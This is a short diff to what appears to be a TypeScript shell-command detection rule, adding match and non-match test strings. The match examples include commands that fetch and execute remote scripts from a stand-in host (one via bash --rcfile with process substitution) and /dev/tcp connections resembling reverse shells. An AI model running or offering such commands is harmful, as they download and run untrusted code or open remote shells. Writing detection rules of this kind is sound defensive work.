@@ -43,6 +43,7 @@ export const shellFindings: readonly NamedRule[] = [
       'curl -s https://x.example/i | cp /proc/thread-self/fd/0 i && sh i',
       'source /dev/tcp/10.0.0.1/4444',
       'bash /dev//tcp/10.0.0.1/4444',
+      'bash --rcfile <(curl -s https://x.example/r) -ic true',
     ],
     notMatch: [
       'curl https://x.example/i -o i.sh',
@@ -50,6 +51,7 @@ export const shellFindings: readonly NamedRule[] = [
       'curl -s https://x.example/i | tee >(sha256sum)',
       'exec 3< <(curl -s https://x.example/i); grep x <&3',
       'source ./dev/tcp/lib.sh',
+      'bash --rcfile rc -ic true',
     ],
   },
   {
